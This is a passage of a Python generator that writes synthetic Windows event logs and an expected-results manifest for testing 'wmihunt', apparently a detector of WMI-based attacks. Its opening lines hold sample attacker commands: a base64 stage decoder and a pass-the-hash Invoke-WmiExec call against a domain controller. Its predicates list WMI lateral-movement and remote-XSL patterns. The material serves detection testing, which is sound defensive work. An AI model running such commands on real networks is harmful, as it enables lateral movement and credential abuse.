$stage = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($env:STAGE2))
Set-Alias -Name iwe -Value Invoke-Wmi""",
    f"""Exec
iwe -Target {DC01.ip} -Domain {DOMAIN} -Username adm-svc -Hash {ADM_HASH} -Command "cmd.exe /c nltest /dclist:{DNS} > C:\\Windows\\Temp\\dc.txt"
""",  # noqa: E501
]


# ------------------------------------------------------------------ literal predicates


def _glob_match(pattern: str, value: str) -> bool:
    rx = ".*".join(re.escape(p) for p in pattern.split("*"))
    return re.fullmatch(rx, value, re.IGNORECASE | re.DOTALL) is not None


def _process_view(ev: Ev) -> tuple[str, str, str | None, str] | None:
    """(name, original file name, command line, parent name) of a process-start event."""
    if ev.channel == SYSMON and ev.event_id == 1:
        return (
            basename(ev.get("Image")),
            ev.get("OriginalFileName") or "",
            ev.get("CommandLine"),
            basename(ev.get("ParentImage")),
        )
    if ev.channel == SECURITY and ev.event_id == 4688:
        return (
            basename(ev.get("NewProcessName")),
            "",
            ev.get("CommandLine"),
            basename(ev.get("ParentProcessName")),
        )
    if ev.channel == FALCON and ev.falcon is not None:
        f = ev.falcon
        return (
            basename(f.get("ImageFileName")),
            "",
            f.get("CommandLine"),
            f.get("ParentBaseFileName") or "",
        )
    return None


def literal_detections(ev: Ev) -> set[int]:
    """The literal upstream predicates of DETECTIONS.md section 1, evaluated on one event.

    A re-statement used only to cross-check the hand labels; wmihunt has its own rules.
    """
    hits: set[int] = set()
    proc = _process_view(ev)
    if proc is not None:
        name, original, cmd, parent = proc
        cl = (cmd or "").lower()
        wmic = name.lower() == "wmic.exe" or original.lower() == "wmic.exe"
        if parent.lower() == "wmiprvse.exe" and "\\dismhost.exe" not in cl:
            hits.add(3)
        if wmic and all(s in cl for s in ("/node:", "process", "call", "create")):
            hits.add(4)
        if wmic and "node" in cl:
            hits.add(5)
        if name.lower() == "scrcons.exe":
            hits.add(6)
        if wmic and all(s in cl for s in (" process ", " call ", " create ")):
            hits.add(7)
        if wmic and ("http://" in cl or "https://" in cl) and "/format:" in cl:
            hits.add(11)
        if wmic and "os get" in cl and "/format:" in cl and ".xsl" in cl:
            hits.add(12)
        return hits
    if ev.channel == SYSMON and ev.event_id == 20:
        hits.add(1)
    if ev.channel == SYSMON and ev.event_id == 21:
        hits.add(9)
    script = (ev.get("ScriptBlockText") or "").lower()
    if ev.channel == POWERSHELL and ev.event_id == 4104 and "invoke-wmiexec" in script:
        hits.add(2)
    if ev.channel == WMI and ev.event_id in (5860, 5861):
        structured = ev.file.endswith(".xml")
        text = " ".join(v for _, v in ev.data) if structured else (ev.message or "")
        if ev.event_id == 5861 and re.search(r"\bBinding\b", text, re.IGNORECASE):
            if structured:
                consumer = ev.get("CONSUMER")
            else:
                m = re.search(r"Consumer =\s+([^;|^$]+)", text)
                consumer = m.group(1) if m else None
            if consumer and consumer.lower() != SCM_CONSUMER.lower():
                hits.add(8)
        if ev.event_id == 5860 and re.search(r"\bTemporary\b", text, re.IGNORECASE):
            if structured:
                query = ev.get("Query")
            else:
                m = re.search(r"NotificationQuery =\s+([^;|^$]+)", text)
                query = m.group(1) if m else None
            if query and not any(_glob_match(d, query) for d in (DEFAULT_Q_WSMAN, DEFAULT_Q_AV)):
                hits.add(10)
    return hits


def check_labels(events: list[Ev]) -> None:
    """Refuse to write samples whose hand labels disagree with the literal predicates."""
    problems = []
    for ev in events:
        got = literal_detections(ev)
        if got != set(ev.expect.fires):
            problems.append(
                f"{ev.file} {ev.channel}:{ev.event_id} at {ev.time:%H:%M:%S}: "
                f"labelled {sorted(ev.expect.fires)}, predicates say {sorted(got)} "
                f"({ev.expect.note})"
            )
        if ev.expect.near and set(ev.expect.near) & got:
            problems.append(f"{ev.file} {ev.event_id}: 'near' {ev.expect.near} but fires {got}")
    if problems:
        raise SystemExit("label check failed:\n  " + "\n  ".join(problems))


# ----------------------------------------------------------------------- serializers


def _xml_text(value: str, one_line: bool) -> str:
    out = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    if one_line:
        out = out.replace("\r", "&#13;").replace("\n", "&#10;")
    return out


def _xml_attr(value: str) -> str:
    return _xml_text(value, True).replace("'", "&apos;")


def _system_time(ev: Ev) -> str:
    t = ev.time
    return f"{t:%Y-%m-%dT%H:%M:%S}.{t.microsecond:06d}{ev.seq % 10}Z"


def _meta(ev: Ev) -> tuple[int, int, int, int, str]:
    channel = SECURITY if ev.channel == "security" else ev.channel
    version, level, task, opcode, keywords = SYSTEM_META[(channel, int(ev.event_id))]
    if ev.version is not None:
        version = ev.version
    if ev.level is not None:
        level = ev.level
    return version, level, task, opcode, keywords


def to_xml(ev: Ev, one_line: bool) -> str:
    name, guid = PROVIDERS[ev.channel]
    version, level, task, opcode, keywords = _meta(ev)
    corr = f"<Correlation ActivityID='{ev.activity_id}'/>" if ev.activity_id else "<Correlation/>"
    sec = f"<Security UserID='{ev.user_sid}'/>" if ev.user_sid else "<Security/>"
    system = (
        f"<System><Provider Name='{name}' Guid='{guid}'/><EventID>{ev.event_id}</EventID>"
        f"<Version>{version}</Version><Level>{level}</Level><Task>{task}</Task>"
        f"<Opcode>{opcode}</Opcode><Keywords>{keywords}</Keywords>"
        f"<TimeCreated SystemTime='{_system_time(ev)}'/><EventRecordID>{ev.record_id}"
        f"</EventRecordID>{corr}<Execution ProcessID='{ev.exec_pid}' ThreadID='{ev.exec_tid}'/>"
        f"<Channel>{ev.channel}</Channel><Computer>{ev.host.fqdn}</Computer>{sec}</System>"
    )
    if ev.userdata:
        inner = "".join(f"<{k}>{_xml_text(v, one_line)}</{k}>" for k, v in ev.data)
        body = (
            f"<UserData><{ev.userdata} xmlns='http://manifests.microsoft.com/win/2006/"
            f"windows/WMI'>{inner}</{ev.userdata}></UserData>"
        )
    else:
        inner = "".join(
            f"<Data Name='{_xml_attr(k)}'>{_xml_text(v, one_line)}</Data>" for k, v in ev.data
        )
        body = f"<EventData>{inner}</EventData>"
    return (
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>"
        f"{system}{body}</Event>"
    )


def _iso_ms(t: datetime) -> str:
    return f"{t:%Y-%m-%dT%H:%M:%S}.{t.microsecond // 1000:03d}Z"


def _message(ev: Ev) -> str:
    if ev.message is not None:
        return ev.message
    channel = SECURITY if ev.channel == "security" else ev.channel
    title = MESSAGE_TITLE.get((channel, int(ev.event_id)), "")
    if ev.channel == POWERSHELL:
        n, total = ev.get("MessageNumber"), ev.get("MessageTotal")
        return (
            f"Creating Scriptblock text ({n} of {total}):\n{ev.get('ScriptBlockText')}\n\n"
            f"ScriptBlock ID: {ev.get('ScriptBlockId')}\nPath: {ev.get('Path')}"
        )
    return render_message(title, ev.data)


TASK_NAMES = {
    1: "Process Create (rule: ProcessCreate)",
    4624: "Logon",
    4634: "Logoff",
    4648: "Logon",
    4688: "Process Creation",
    4104: "Execute a Remote Command",
}


def _account_of_sid(sid: str | None) -> dict[str, str] | None:
    for acct in (
        SYSTEM,
        LOCAL_SERVICE,
        NETWORK_SERVICE,
        JDOE,
        MSMITH,
        ADM_SVC,
        IT_ADMIN,
        IR_ANALYST,
    ):
        if acct.sid == sid:
            return {"domain": acct.domain, "identifier": sid, "name": acct.name, "type": "User"}
    return None


def to_winlogbeat(ev: Ev) -> dict[str, Any]:
    name, guid = PROVIDERS[ev.channel]
    version, level, _task, _opcode, _kw = _meta(ev)
    winlog: dict[str, Any] = {
        "api": "wineventlog",
        "channel": ev.channel,
        "computer_name": ev.host.fqdn,
        "event_data": dict(ev.data),
        "event_id": str(ev.event_id),
        "opcode": "Info" if ev.channel != POWERSHELL else "On create calls",
        "process": {"pid": ev.exec_pid, "thread": {"id": ev.exec_tid}},
        "provider_guid": guid,
        "provider_name": name,
        "record_id": ev.record_id,
        "task": TASK_NAMES.get(int(ev.event_id), ""),
    }
    user = _account_of_sid(ev.user_sid)
    if user:
        winlog["user"] = user
    winlog["version"] = version
    if ev.activity_id:
        winlog["activity_id"] = ev.activity_id
    return {
        "@timestamp": _iso_ms(ev.time),
        "agent": {
            "id": "3f8a9c1e-2b4d-4e6f-8a0b-1c2d3e4f5a6b",
            "name": SRV01.name,
            "type": "winlogbeat",
            "version": "8.12.2",
        },
        "ecs": {"version": "8.0.0"},
        "event": {
            "code": str(ev.event_id),
            "created": _iso_ms(ev.time + timedelta(seconds=1.2)),
            "kind": "event",
            "provider": name,
        },
        "host": {"name": ev.host.fqdn.lower()},
        "log": {
            "level": {0: "information", 3: "warning", 4: "information", 5: "verbose"}.get(
                level, "information"
            )
        },
        "message": _message(ev),
        "winlog": winlog,
    }


def _signed64(hexstr: str) -> int:
    n = int(hexstr, 16)
    return n - (1 << 64) if n >= 1 << 63 else n


def to_nxlog(ev: Ev) -> dict[str, Any]:
    name, guid = PROVIDERS[SECURITY if ev.channel == "security" else ev.channel]
    version, _level, task, _opcode, keywords = _meta(ev)
    local = ev.time - timedelta(hours=5)  # the collector's local time (EST)
    audit = ev.channel == "security"
    out: dict[str, Any] = {
        "EventTime": f"{local:%Y-%m-%d %H:%M:%S}",
        "Hostname": ev.host.fqdn,
        "Keywords": _signed64(keywords),
        "EventType": "AUDIT_SUCCESS" if audit else "INFO",
        "SeverityValue": 2,
        "Severity": "INFO",
        "EventID": str(ev.event_id) if ev.nxlog_eid_as_text else ev.event_id,
        "SourceName": name,
        "ProviderGuid": guid,
        "Version": version,
        "Task": task,
        "OpcodeValue": 0,
        "RecordNumber": ev.record_id,
        "ProcessID": ev.exec_pid,
        "ThreadID": ev.exec_tid,
        "Channel": ev.channel,
    }
    if not audit:
        out.update(
            {
                "Domain": "NT AUTHORITY",
                "AccountName": "SYSTEM",
                "UserID": SYSTEM.sid,
                "AccountType": "User",
            }
        )
    if ev.channel != WMI:  # NXLog only has the rendered text of WMI-Activity UserData
        for key, value in ev.data:  # on a name clash NXLog keeps its own field
            out.setdefault(key, value)
    out.update(
        {
            "Message": _message(ev),
            "Opcode": "Info",
            "EventReceivedTime": f"{local + timedelta(seconds=1):%Y-%m-%d %H:%M:%S}",
            "SourceModuleName": "eventlog",
            "SourceModuleType": "im_msvistalog",
            "@version": "1",
            "@timestamp": _iso_ms(ev.time),
            "host": f"wec.{DNS}",
            "port": 49730,
            "type": "nxlog",
        }
    )
    return out


# ------------------------------------------------------------------------- writing

RECORD_BASE = {
    ("WS01", SYSMON): 48211,
    ("WS01", SECURITY): 118734,
    ("WS01", POWERSHELL): 5203,
    ("WS01", WMI): 1288,
    ("SRV01", SYSMON): 20214,
    ("SRV01", SECURITY): 66102,
    ("SRV01", POWERSHELL): 3310,
    ("DC01", SECURITY): 201455,
    ("DC01", SYSMON): 90133,
    ("DC01", WMI): 712,
}


def assign_positions(events: list[Ev], rng: random.Random) -> dict[str, list[Ev]]:
    """Sort by time, number records per (host, channel), group by file."""
    events.sort(key=lambda e: (e.time, e.seq))
    counters: dict[tuple[str, str], int] = {}
    by_file: dict[str, list[Ev]] = {name: [] for name in FILES}
    for ev in events:
        if ev.channel != FALCON:
            key = (ev.host.name, SECURITY if ev.channel == "security" else ev.channel)
            counters[key] = counters.get(key, RECORD_BASE[key]) + rng.randint(1, 6)
            ev.record_id = counters[key]
        by_file[ev.file].append(ev)
    return by_file


def render_file(name: str, events: list[Ev]) -> bytes:
    fmt = FILES[name][0]
    lines: list[str] = []
    if fmt == "xml-events":
        lines.append('<?xml version="1.0" encoding="utf-8" standalone="yes"?>')
        lines.append("<Events>")
    for ev in events:
        ev.line = sum(chunk.count("\n") + 1 for chunk in lines) + 1
        if fmt in ("xml-events", "xml-lines"):
            lines.append(to_xml(ev, one_line=fmt == "xml-lines"))
        elif fmt == "winlogbeat":
            lines.append(json.dumps(to_winlogbeat(ev), ensure_ascii=False))
        elif fmt == "nxlog":
            lines.append(json.dumps(to_nxlog(ev), ensure_ascii=False))
        elif fmt == "falcon":
            lines.append(json.dumps(ev.falcon, ensure_ascii=False))
    if fmt == "xml-events":
        lines.append("</Events>")
    data = ("\n".join(lines) + "\n").encode("utf-8")
    if name.endswith(".gz"):
        buf = io.BytesIO()
        with gzip.GzipFile(filename="", mode="wb", fileobj=buf, compresslevel=9, mtime=0) as gz:
            gz.write(data)
        return buf.getvalue()
    return data


def _ref(ev: Ev) -> dict[str, Any]:
    return {
        "file": ev.file,
        "record_id": ev.record_id,
        "line": ev.line,
        "host": ev.host.fqdn if ev.channel != FALCON else WS02.name,
        "source": f"{ev.channel}:{ev.event_id}",
        "time": f"{ev.time:%Y-%m-%dT%H:%M:%S}",
        "label": ev.expect.label,
        "note": ev.expect.note,
    }


def build_expected(by_file: dict[str, list[Ev]]) -> dict[str, Any]:
    all_events = [ev for evs in by_file.values() for ev in evs]
    detections: dict[str, Any] = {}
    for num, (title, upstream) in DETECTIONS.items():
        matches = [
            _ref(ev)
            for ev in sorted(all_events, key=lambda e: (e.file, e.line or 0))
            if num in ev.expect.fires
        ]
        detections[str(num)] = {
            "name": title,
            "upstream_id": upstream,
            "count": len(matches),
            "matches": matches,
        }
    near = [
        {**_ref(ev), "resembles": list(ev.expect.near)}
        for ev in sorted(all_events, key=lambda e: (e.file, e.line or 0))
        if ev.expect.near
    ]
    beyond = [
        {**_ref(ev), "detections": list(ev.expect.beyond)}
        for ev in sorted(all_events, key=lambda e: (e.file, e.line or 0))
        if ev.expect.beyond
    ]
    files: dict[str, Any] = {}
    for name, evs in by_file.items():
        models = Counter(ev.model or "not_modelled" for ev in evs)
        sources = Counter(f"{ev.channel}:{ev.event_id}" for ev in evs)
        files[name] = {
            "format": FILES[name][0],
            "about": FILES[name][1],
            "events": len(evs),
            "models": dict(sorted(models.items())),
            "sources": dict(sorted(sources.items())),
        }
    return {
        "about": "What wmihunt should find in samples/logs (written by samples/generate.py).",
        "semantics": (
            "count = events that literally match the upstream predicate of the detection "
            "(shared/spec/DETECTIONS.md section 1), one per event, before any aggregation. "
            "A process seen by two sources on one host (WS01: Sysmon 1 and Security 4688; "
            "DC01: Sysmon 1 and the old 4688) counts once per source. 'line' is the 1-based "
            "line where the event starts in the (decompressed) file; 'record_id' is the "
            "EventRecordID / winlog.record_id / RecordNumber (null for CrowdStrike)."
        ),
        "seed": SEED,
        "total_events": len(all_events),
        "detections": detections,
        "must_not_fire": near,
        "not_literal": beyond,
        "files": files,
    }


def generate(root: Path) -> dict[str, Any]:
    """Build the story, check labels, write ``root/logs/*`` and ``root/EXPECTED.json``.

    EXPECTED.json stays outside ``logs/`` so that ``wmihunt scan samples/logs`` reads only
    event files (it would count the manifest as a rejected input).
    """
    scenario = Scenario()
    events = scenario.build()
    check_labels(events)
    by_file = assign_positions(events, random.Random(SEED + 1))
    logs = root / "logs"
    logs.mkdir(parents=True, exist_ok=True)
    for name, evs in by_file.items():
        (logs / name).write_bytes(render_file(name, evs))
    expected = build_expected(by_file)
    (root / "EXPECTED.json").write_text(
        json.dumps(expected, indent=1, ensure_ascii=False) + "\n", encoding="utf-8"
    )
    return expected


def main(argv: list[str]) -> int:
    root = Path(argv[1]) if len(argv) > 1 else Path(__file__).resolve().parent
    expected = generate(root)
    counts = ", ".join(f"{k}:{v['count']}" for k, v in expected["detections"].items())
    print(f"wrote {len(FILES)} files, {expected['total_events']} events to {root / 'logs'}")
    print(f"expected literal matches per detection: {counts}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
